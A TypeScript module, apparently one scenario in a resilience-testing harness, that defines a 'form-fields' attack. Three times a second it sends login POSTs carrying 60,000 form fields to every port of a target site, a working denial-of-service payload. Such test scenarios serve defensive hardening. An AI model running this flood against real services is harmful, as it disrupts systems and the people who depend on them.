import { type Attack, repeat } from '../attack.ts';
import { ATTACKER } from '../community.ts';
import { send } from '../http.ts';

const FIELDS = 60_000;
const PER_SECOND = 3;

export const FORM_FIELDS: Attack = {
  name: 'form-fields',
  title: `${PER_SECOND} forms a second with ${FIELDS} fields, to each process`,
  async run({ site }, signal) {
    const body = Array.from({ length: FIELDS }, (_, index) => index.toString(36)).join('&');
    const call = {
      ...{ method: 'POST', path: '/auth/login', from: ATTACKER, token: 'x', body },
      type: 'application/x-www-form-urlencoded',
    };
    await repeat(PER_SECOND, signal, () => Promise.all(site.ports.map((port) => send(port, call))));
    return [];
  },
};
